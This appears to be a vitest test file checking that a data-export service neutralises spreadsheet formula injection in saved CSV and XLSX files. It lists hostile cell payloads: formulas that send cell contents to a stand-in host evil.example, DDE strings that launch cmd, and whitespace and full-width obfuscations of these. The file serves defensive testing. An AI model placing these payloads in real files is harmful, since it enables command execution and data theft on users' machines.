import { read } from '@e965/xlsx';
import Papa from 'papaparse';
import { expect, it } from 'vitest';
import { dataFile } from '@/services/browser/dataFile';
import { Counter } from './counter';

/** Cells that a spreadsheet program would run: formulas, commands through DDE, and what hides them. */
const hostile = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Ver")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML("https://evil.example","//a")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-A1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u2003@SUM(A1)',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '=',
  '+',
  '--1',
  '=1+1";=2+2;"',
  '=1,=2',
  '=\u0000cmd',
];

/** Texts that resemble formulas and must stay unchanged. */
const harmless = ['-3', '+3', '-12.5', '1,234', '-15 %', '007', 'a=b', 'x@y', 'a-b', '', '2026-11-21', '3+4'];

/** Whether a spreadsheet program would read the cell as a formula, by its first character and by SheetJS. */
const runs = (text: string) =>
  /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/.test(text) && !/^\s*[+-]?[\d.,]+\s*%?$/.test(text);

const table = (cells: readonly string[]) =>
  Papa.unparse([['Planta', 'Nota'], ...cells.map((cell) => ['MTY', cell])]);
const cellsOf = (csv: string) =>
  Papa.parse<string[]>(csv.replace('\ufeff', ''), { skipEmptyLines: true })
    .data.slice(1)
    .map(([, cell = '']) => cell);

it('no cell of a saved file runs as a formula, as CSV or as a spreadsheet (SPEC section 2.4)', async ({
  task,
}) => {
  const counter = new Counter('formulas in exports');
  const csv = cellsOf(await (await dataFile([{ csv: table(hostile), title: 'Datos' }], 'csv')).blob.text());
  const { blob } = await dataFile([{ csv: table(hostile), title: 'Datos' }], 'xlsx');
  const sheet = read(await blob.arrayBuffer(), { cellFormula: true }).Sheets.Datos ?? {};
  const naive = cellsOf(table(hostile));
  for (const [row, cell] of hostile.entries()) {
    const name = JSON.stringify(cell);
    await counter.attempt(`CSV ${name}`, () => {
      expect(csv[row]?.replace(/^'/, '')).toBe(cell);
      expect(runs(csv[row] ?? '')).toBe(false);
    });
    await counter.attempt(`spreadsheet ${name}`, () => {
      const { t, f } = sheet[`B${row + 2}`] ?? {};
      expect({ t, f }).toEqual({ t: 's', f: undefined });
    });
    await counter.control(`CSV ${name}`, () => expect(runs(naive[row] ?? '')).toBe(false));
  }
  task.meta.scores = [counter.score];
  expect(counter.problems).toEqual([]);
});

it('a harmless text that looks like a formula is saved unchanged as CSV', async () => {
  const { blob } = await dataFile([{ csv: table(harmless), title: 'Datos' }], 'csv');
  expect(cellsOf(await blob.text())).toEqual(harmless);
});
